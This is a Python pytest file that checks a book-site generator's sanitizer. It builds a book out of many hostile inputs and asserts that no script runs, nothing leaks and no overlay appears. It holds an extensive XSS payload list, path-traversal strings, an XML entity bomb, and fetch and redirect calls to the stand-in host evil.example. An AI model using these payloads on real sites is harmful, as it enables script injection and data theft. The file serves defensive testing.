"""A book that tries to act: nothing in it runs, covers, sends, fetches or leaves its place."""

# ruff: noqa: E501 (an attack does not end where a line does)

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By

from books import Shelf
from hexapla.model.outputs import BOKEH, ERROR, PLOTLY, STDERR, STDOUT, Output, Result
from hexapla.ports import Job, Workplace
from hexapla.render.inert import EMPTY, inert, tidied
from serving import serve

# What each attack does where it succeeds: it says so, or asks for something elsewhere.
RUN = "top.stolen=self.stolen=1"
EVIL = "https://evil.example"
SCRIPT = f"<script>{RUN}</script>"
ELEMENTS = (
    SCRIPT,
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></use></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>covers</p>",
    "<p class='bar skip away announcement'>covers</p>",
    f"<style>* {{ display: none }} @import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/y>",
    f"<meta http-equiv=refresh content='0; url={EVIL}/'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/ id=hexapla><input name=password><button formaction={EVIL}>x</button></form>",
    f"<iframe srcdoc='{SCRIPT}'></iframe><iframe src=javascript:{RUN}></iframe>",
    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x>",
    f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "<img name=body><img name=hexapla><a id=location name=location>x</a><p id=currentScript>x</p>",
    f"<template shadowrootmode=open>{SCRIPT}</template>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<?xml version='1.0'?><?x ><img src=x onerror={RUN}>?>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<a href='{EVIL}' ping='{EVIL}/p' target=_top onclick={RUN}>x</a>",
    f"<dialog open style='position:fixed'>x</dialog><button popovertarget=x onclick={RUN}>x</button>",
    f"<input autofocus onfocus={RUN}><select onfocus={RUN} autofocus></select><textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><isindex action=javascript:{RUN}>",
    "<table background=javascript:x><td background=x style='position:fixed;top:0'>x</td></table>",
    f"<div is=x contenteditable tabindex=1 accesskey=x draggable=true ondragstart={RUN}>x</div>",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,{SCRIPT}",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"vbscript:{RUN}",
    f"blob:{RUN}",
    f"view-source:javascript:{RUN}",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "/etc/passwd",
)  # fmt: skip
NAMES = (
    *("hexapla", "body", "location", "head", "cookie", "forms", "constructor", "__proto__"),
    *("book-main", "book-contents", "book-variant", "toString", "chart", "currentScript"),
)


def page_text() -> str:
    """All of it in the text of a page."""
    named = "\n".join(f"({name})=\n### {name}\n\n{{ref}}`{name}` [x](#{name})\n" for name in NAMES)
    raw = "\n\n".join(f"{one}\n\nwithin a line: {one} <br>" for one in ELEMENTS)
    blocks = "\n\n".join(f"```{{raw}} html\n{one}\n```" for one in ELEMENTS)
    links = "\n\n".join(
        f"[x]({one}) [y](<{one}>) <{one}> <a href='{one}'>x</a> ![p]({one}) {{download}}`x <{one}>`"
        for one in ADDRESSES
    )
    directives = "\n\n".join(
        f"```{{{name}}} {value}\n:name: '\" onclick=\"{RUN}'\n:class: x\" onclick=\"{RUN}\n"
        f":alt: '\" onerror=\"{RUN}'\n:width: 1px;position:fixed\n:align: x\" onload=\"{RUN}\n\n{SCRIPT}\n```"
        for name in ("figure", "image", "iframe", "video", "audio", "note", "admonition", "card", "mermaid")
        for value in (*ADDRESSES[:3], f'"><script>{RUN}</script>')
    )  # fmt: skip
    maths = "\n\n".join(
        f"${one}$\n\n$$\n{one}\n$$"
        for one in (
            f"\\href{{javascript:{RUN}}}{{x}}",
            f"\\url{{javascript:{RUN}}}",
            f"\\includegraphics{{{EVIL}/x.png}}",
            f"\\htmlData{{x={SCRIPT}}}{{x}}",
            "\\htmlStyle{position:fixed;inset:0}{x}",
            f'\\htmlId{{x" onclick="{RUN}}}{{x}}',
            f"\\text{{</span>{SCRIPT}}}",
            "\\rule{1000em}{1000em}",
            "\\kern9999em x",
        )
    )  # fmt: skip
    return f"""---
title: "Title {SCRIPT}"
description: '"><script>{RUN}</script>'
id: one
authors: ["{SCRIPT}"]
---
# Title {SCRIPT}

{named}

## {SCRIPT} `{SCRIPT}`

{raw}

{blocks}

{links}

{directives}

{maths}

{{index}}`{SCRIPT}` {{term}}`x` {{cite}}`evil` {{abbr}}`HTML ({SCRIPT})`[^1]

[^1]: {SCRIPT} [x](javascript:{RUN})

```{{glossary}}
x
: {SCRIPT} <img src=x onerror={RUN}>
```

```{{code-block}} python
:caption: {SCRIPT}
:filename: '"><script>{RUN}</script>'
"</script>{SCRIPT}" # <!-- <script>
```

[a picture](evil.svg) [a page](evil.html) [xml](evil.xml) [xhtml](evil.xhtml)

![shown](evil.svg)

```{{iframe}} evil.html
```

""" + "\n\n".join(
        f"```{{code-cell}} python\n:alt: '\"><script>{RUN}</script>'\n{number}\n```"
        for number in range(len(OUTPUTS))
    )


VEGA = {"$schema": f"{EVIL}/x.json", "data": {"url": f"{EVIL}/x.csv"}, "mark": {"type": "image"}}
OUTPUTS = (
    *(Output("text/html", one) for one in ELEMENTS if "<script" not in one.lower()),
    *(Output("text/markdown", one) for one in ELEMENTS),
    Output("text/html", f"<script>{RUN}; parent.document.title='stolen'; fetch('{EVIL}')</script>"),
    Output("text/html", f"<script>top.location='{EVIL}'; open('{EVIL}')</script>"),
    Output("text/html", f"<script>location='{EVIL}/?leak'</script><b>x</b>"),
    Output("text/html", f"<p></p></body></html><script>parent.postMessage({{hexapla:{{height:1e9,scripts:['{RUN}']}}}},'*')</script>"),
    Output("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"),
    Output("text/latex", f"$\\href{{javascript:{RUN}}}{{x}}$"),
    Output("text/latex", f"\\begin{{align}}{SCRIPT}\\end{{align}}"),
    Output("application/json", json.dumps({"x": SCRIPT, "__proto__": {"x": 1}})),
    Output(STDOUT, f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07 \x1b[31m{SCRIPT}\x1b[0m"),
    Output(STDERR, f'\x1b[31;"onclick="{RUN}m{SCRIPT}'),
    Output(ERROR, f"{SCRIPT}"),
    Output(f'text/x"><script>{RUN}</script>', SCRIPT),
    Output("application/vnd.vegalite.v5+json", json.dumps(VEGA)),
    Output(PLOTLY, json.dumps({"data": [{"type": "bar", "x": [f"<a href='javascript:{RUN}'>x</a>"], "y": [1]}],
                               "layout": {"title": {"text": SCRIPT}, "images": [{"source": f"{EVIL}/x.png"}]}})),
    Output(BOKEH, json.dumps({"doc": {}, "root_id": SCRIPT})),
)  # fmt: skip

CONFIG = f"""
title = "Book {SCRIPT}"
outputs = ["web", "epub"]
subtitle = '"><script>{RUN}</script>'
authors = ["{SCRIPT}", '" onclick="{RUN}']
license = "{SCRIPT}"
copyright = "{SCRIPT}"
repository = "https://evil.example/\\" onclick=\\"{RUN}"
logo = "evil.svg"
bibliography = ["evil.bib"]
[theme]
accent = "red; }} body {{ display: none"
announcement = '{SCRIPT} [x](javascript:{RUN}) <img src=x onerror="{RUN}"> [y](../../etc/passwd)'
footer = '''{ELEMENTS[19]} {ELEMENTS[13]} [x](javascript:{RUN})'''
links = [{{ title = "{SCRIPT}", url = "javascript:{RUN}" }}, {{ title = '"><script>{RUN}</script>', url = "https://a.org/\\"onclick=\\"{RUN}" }}]
footer_links = [{{ title = "x", page = "../../etc/passwd" }}]
[theme.fonts]
text = 'x"; }} body {{ display: none }} @import "{EVIL}'
[theme.allow]
script = ["'unsafe-inline'", "https://a.org; script-src *"]
[abbreviations]
BOD = '"><script>{RUN}</script>'
[substitutions]
evil = '{SCRIPT}'
[macros]
"\\\\evil" = "\\\\href{{javascript:{RUN}}}{{x}}"
[redirects]
"../../../out.html" = "one.html"
"old.html" = "javascript:{RUN}"
[check]
ignore = []
[[parts]]
title = "Part {SCRIPT}"
chapters = ["one.md", "nb.ipynb", {{ title = "{SCRIPT}", url = "javascript:{RUN}" }}, {{ page = "x'\\"><script>.md", title = "{SCRIPT}", address = "../../../up" }}]
"""
SVG = f"""<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="evil.xml"?>
<!DOCTYPE svg [<!ENTITY run "{RUN}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:l="http://www.w3.org/1999/xlink"
 width="60" height="20" onload="{RUN}"><script>{RUN}</script><h:script>{RUN}</h:script><title>kept</title>
<foreignObject><h:body onload="{RUN}"/></foreignObject><a l:href="javascript:{RUN}"><text y="12">x</text></a>
<set attributeName="l:href" to="javascript:{RUN}"/><image href="{EVIL}/x.png" width="1" height="1"/>
<style>@import "{EVIL}/x.css";</style><rect width="9" height="9" fill="url({EVIL}/x#y)"/></svg>
"""
PAGE = f"""<!DOCTYPE html>
<title>x</title><p id=said>static</p>
<script>document.getElementById("said").textContent = "ran as " + origin;
try {{ localStorage.setItem("stolen", 1) }} catch {{}}; {RUN}</script>
<form action="{EVIL}"><input></form><img src=x onerror="{RUN}">
"""
XHTML = (
    f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{RUN}</script></head><body/></html>'
)
BIB = f"""@article{{evil, author = {{{SCRIPT}, <img src=x onerror={RUN}>}}, title = {{{SCRIPT}}}, year = {{2020}},
 url = {{javascript:{RUN}}}, doi = {{"><script>{RUN}</script>}}, journal = {{<img src=x onerror={RUN}>}}}}
"""
NOTEBOOK = {
    "nbformat": 4, "nbformat_minor": 5,
    "metadata": {"kernelspec": {"name": SCRIPT, "display_name": SCRIPT}, "title": SCRIPT, "authors": [SCRIPT],
                 "language_info": {"name": '"><script>'}, "widgets": {"x": SCRIPT}},
    "cells": [
        {"cell_type": "markdown", "id": "a", "metadata": {"tags": [SCRIPT]}, "source": f"# {SCRIPT}\n\n" + "\n\n".join(ELEMENTS),
         "attachments": {"x.svg": {"image/svg+xml": SVG}}},
        {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": "\n".join(ELEMENTS)},
        {"cell_type": "code", "id": "c", "execution_count": 1, "metadata": {"name": SCRIPT, "tags": ['" onclick="']}, "source": "0",
         "outputs": [{"output_type": "display_data", "metadata": {"image/png": {"width": SCRIPT}},
                      "data": {"text/html": ELEMENTS[3], "text/plain": SCRIPT}}]},
    ],
}  # fmt: skip


class Hostile:
    """A runner whose cells give what is numbered there."""

    def run(self, job: Job, at: Workplace, started: Callable[[int], None]) -> Result:
        numbers = [int(cell.code) if cell.code.strip().isdigit() else 0 for cell in job.cells]
        return Result(tuple((OUTPUTS[number],) for number in numbers), 1.0)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "book"  # nobody else writes beside it
    folder.mkdir()
    texts = {
        "book.toml": CONFIG,
        "one.md": page_text(),
        "nb.ipynb": json.dumps(NOTEBOOK),
        "x'\"><script>.md": f"# {SCRIPT}\n\n{{{{ evil }}}} $\\evil$ BOD\n",
        "evil.svg": SVG,
        "evil.html": PAGE,
        "evil.xhtml": XHTML,
        "evil.xml": SVG,
        "evil.bib": BIB,
    }
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    before = set(folder.parent.rglob("*"))
    problems = Shelf(folder, Hostile()).build()
    assert {one.code for one in problems} >= {"bad-config", "outside"}
    made = set(folder.parent.rglob("*")) - before
    assert all(path.is_relative_to(folder) for path in made)
    return folder / "_build" / "web"


# --- as it is written -------------------------------------------------------------------------

GLOBAL = {"class", "id", "title", "role", "style", "lang", "dir", "tabindex", "hidden"}
MATHML = frozenset(
    (
        *("math", "semantics", "annotation", "mrow", "mi", "mo", "mn", "ms", "mtext", "mspace"),
        *("msup", "msub", "msubsup", "mfrac", "msqrt", "mroot", "mover", "munder", "munderover"),
        *("mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom", "menclose", "merror"),
    )
)
VOID = frozenset(
    [
        "area",
        "base",
        "br",
        "col",
        "embed",
        "hr",
        "img",
        "input",
        "link",
        "meta",
        "source",
        "track",
        "wbr",
    ]
)
ALLOWED = frozenset(
    (
        *("html", "head", "title", "meta", "link", "script", "body", "header", "footer", "main"),
        *("nav", "aside", "article", "section", "div", "span", "p", "a", "ul", "ol", "li", "dl"),
        *("dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em"),
        *("strong", "b", "i", "u", "s", "del", "ins", "sub", "sup", "small", "mark", "q", "cite"),
        *("dfn", "kbd", "samp", "var", "abbr", "wbr", "br", "hr", "img", "figure", "figcaption"),
        *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "td", "th"),
        *("details", "summary", "button", "select", "option", "label", "input", "iframe"),
        *("video", "audio", "source", "svg", "path", "circle", "rect", "line", "g", "polyline"),
        *("dialog", "template", "time", "data", "use", "symbol", "defs", "text", "tspan"),
    )
)
LOOKS = re.compile(r"position\s*:\s*(fixed|sticky)|url\(|expression|@import|z-index", re.IGNORECASE)


class Reader(HTMLParser):
    """Says what a page holds that no page may."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag not in ALLOWED | MATHML:
            self.wrong.append(f"<{tag}>")
        if tag == "script":
            self._script(values)
        if tag == "iframe" and ("sandbox" not in values or "srcdoc" in values):
            self.wrong.append(f"frame {values}")
        if tag == "input" and values.get("type") not in ("checkbox", "search", "radio", "range"):
            self.wrong.append(f"input {values}")
        if values.get("http-equiv", "") not in ("", "Content-Security-Policy", "refresh"):
            self.wrong.append(f"meta {values}")
        for name, value in values.items():
            self._attribute(tag, name, value)

    def _script(self, values: dict[str, str]) -> None:
        own = re.fullmatch(r"(\.\./)*assets/[\w./-]+\.js", values.get("src", ""))
        if not own and values.get("type") not in ("application/json", "application/ld+json"):
            self.wrong.append(f"script {values}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in (
            "srcdoc",
            "formaction",
            "ping",
            "background",
            "action",
        ):
            self.wrong.append(f"{tag} {name}={value}")
        if name == "style" and LOOKS.search(value):
            self.wrong.append(f"{tag} {name}={value}")
        if name in ("href", "src", "poster", "data", "xlink:href", "cite") and not _fit(tag, value):
            self.wrong.append(f"{tag} {name}={value}")


def _fit(tag: str, url: str) -> bool:
    """Whether an address leads to the web, or to a file within the site."""
    bare = re.sub(r"[\x00-\x20]", "", url).lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare)
    if scheme and tag == "img":
        return bare.startswith(("data:image/", "https:", "http:"))
    return scheme[1] in ("http", "https", "mailto") if scheme else not bare.startswith("/")


def pages_of(site: Path) -> list[Path]:
    """The pages of the book: what is in a frame has a policy of its own."""
    found = [path for path in site.rglob("*.html") if path.relative_to(site).parts[0] != "media"]
    return [path for path in found if path.relative_to(site).parts[0] != "files"]


def test_pages_hold_only_what_pages_may_hold(site: Path) -> None:
    pages = pages_of(site)
    assert len(pages) >= 4
    for path in pages:
        reader = Reader()
        reader.feed(path.read_text(encoding="utf-8"))
        assert reader.wrong == [], path
    assert "&lt;script&gt;" in (site / "one.html").read_text(encoding="utf-8")


def test_a_book_for_readers_of_epub_holds_no_more(site: Path) -> None:
    (path,) = (site.parent / "epub").glob("*.epub")
    with ZipFile(path) as book:
        pages = {name: book.read(name) for name in book.namelist() if name.endswith(".xhtml")}
    assert len(pages) >= 6
    for name, page in pages.items():
        ElementTree.fromstring(page)  # noqa: S314, we made it
        reader = Reader()
        reader.feed(page.decode())
        assert reader.wrong == [], name
        assert not re.search(rb"<(script|iframe|button|input|video|audio)", page), name


def test_no_link_leads_out_of_the_site(site: Path) -> None:
    for path in pages_of(site):
        html = path.read_text(encoding="utf-8")
        for url in re.findall(r'(?:href|src)="([^"]*)"', html):
            if not urlsplit(url).scheme and (file := url.partition("#")[0].partition("?")[0]):
                assert (path.parent / file).resolve().is_relative_to(site.resolve()), url


def test_the_style_sheet_has_nothing_of_a_hostile_theme(site: Path) -> None:
    css = (site / "assets/book.css").read_text(encoding="utf-8")
    assert "evil.example" not in css
    assert "body { display: none" not in css


def test_every_file_for_a_frame_closes_itself(site: Path) -> None:
    framed = list((site / "media").rglob("*.html"))
    assert framed
    for path in framed:
        html = path.read_text(encoding="utf-8")
        assert re.match(r"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta http-equiv="
                        r"\"Content-Security-Policy\" content=\"default-src 'none';[^\"]*\">"
                        r"<script nonce=\"hexapla\">// First of all in a frame", html)  # fmt: skip


# --- files that are served --------------------------------------------------------------------


def test_a_picture_loses_what_acts_and_nothing_else() -> None:
    still = tidied(SVG.encode()).decode()
    for gone in (
        "script",
        "stolen",
        "onload",
        "evil.example",
        "foreignObject",
        "javascript",
        "<set",
    ):
        assert gone not in still, gone
    assert "<title>kept</title>" in still
    assert '<text y="12">x</text>' in still
    quiet = b'<?xml version="1.0"?>\n<!-- x -->\n<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'
    assert tidied(quiet) == quiet
    assert tidied(still.encode()) == still.encode()


@pytest.mark.parametrize(
    "data",
    [
        b"<svg",
        b"",
        b"\xff\xfe",
        b"<svg>&nbsp;</svg>",
        b'<?xml version="1.0" encoding="utf-7"?><svg/>',
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
    ],
)
def test_what_no_browser_can_show_is_an_empty_picture(data: bytes) -> None:
    assert tidied(data) == EMPTY


def test_entities_and_encodings_hide_nothing() -> None:
    entity = b'<!DOCTYPE svg [<!ENTITY x "javascript:1">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&x;"/></svg>'
    assert b"javascript" not in tidied(entity)
    wide = SVG.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
    assert b"stolen" not in tidied(wide.encode("utf-16"))
    bomb = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    assert len(tidied(f'<!DOCTYPE s [<!ENTITY a0 "xx">{bomb}]><s>&a11;</s>'.encode())) < 10**7


def test_other_files_are_served_as_they_are() -> None:
    assert inert("a.csv", b"<script>") == b"<script>"


# --- in a browser -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def address(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The site twice: as it is, and without its policies, so that cleaning stands alone."""
    root = tmp_path_factory.mktemp("served")
    shutil.copytree(site, root / "kept")
    shutil.copytree(site, root / "bare")
    for path in pages_of(root / "bare"):
        html = path.read_text(encoding="utf-8")
        html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
        path.write_text(html, encoding="utf-8")
    with serve(root) as address:
        yield address


SEEN = """
const elements = [...document.querySelectorAll(".text *, .imprint *, .announcement, nav *")];
const places = elements.filter((one) => /fixed|sticky/.test(getComputedStyle(one).position));
const bar = document.querySelector(".bar").getBoundingClientRect();
const above = document.elementFromPoint(bar.left + 400, bar.top + bar.height / 2);
return {
  stolen: window.stolen ?? localStorage.getItem("stolen"),
  covers: places.map((one) => one.outerHTML.slice(0, 200)),
  bar: Boolean(above && above.closest(".bar")),
  forms: document.forms.length,
  base: document.querySelectorAll("base").length,
  hidden: getComputedStyle(document.body).display,
  ready: typeof hexapla.renew === "function" && document.body === document.querySelector("body"),
  asked: performance.getEntriesByType("resource").map((one) => one.name)
    .filter((url) => !url.startsWith(location.origin) && !url.startsWith("data:")),
};
"""


@pytest.mark.browser
@pytest.mark.parametrize("under", ["kept", "bare"])
def test_nothing_acts_in_a_browser(
    browser: webdriver.Chrome, address: str, site: Path, under: str
) -> None:
    for path in pages_of(site):
        url = f"{address}/{under}/{path.relative_to(site).as_posix().replace(chr(39), '%27')}"
        browser.get(url)
        for frame in browser.find_elements(By.TAG_NAME, "iframe"):
            browser.execute_script("arguments[0].loading = 'eager'", frame)
        for link in browser.find_elements(By.CSS_SELECTOR, ".text a")[:60]:
            href = str(link.get_attribute("href") or "")
            assert not re.match(r"\s*(javascript|vbscript|data|blob|file):", href, re.IGNORECASE)
        found = browser.execute_script(SEEN)
        assert found == {
            **{"stolen": None, "covers": [], "bar": True, "forms": 0, "base": 0},
            **{"hidden": found["hidden"], "ready": True, "asked": []},
        }, url
        assert found["hidden"] != "none"
        assert browser.current_url.startswith(f"{address}/{under}/")
        assert len(browser.window_handles) == 1


@pytest.mark.browser
def test_files_that_are_opened_by_themselves_run_nothing_on_the_site(
    browser: webdriver.Chrome, address: str, site: Path
) -> None:
    files = [*(site / "files").rglob("evil.*"), *(site / "media").rglob("*.html")]
    files += (site / "media").rglob("*.svg")
    assert {path.suffix for path in files} >= {".svg", ".html", ".xhtml", ".xml"}
    for path in files:
        browser.get(f"{address}/kept/index.html")
        browser.execute_script("localStorage.clear()")
        browser.get(f"{address}/kept/{path.relative_to(site).as_posix()}")
        assert browser.execute_script("return window.stolen") is None, path
        browser.get(f"{address}/kept/index.html")
        assert browser.execute_script("return localStorage.getItem('stolen')") is None, path


@pytest.mark.browser
def test_a_saved_page_still_does_its_work_in_its_frame(
    browser: webdriver.Chrome, address: str
) -> None:
    browser.get(f"{address}/kept/files/evil.html")
    browser.switch_to.frame(browser.find_element(By.TAG_NAME, "iframe"))
    assert browser.find_element(By.ID, "said").text == "ran as null"
    browser.switch_to.default_content()
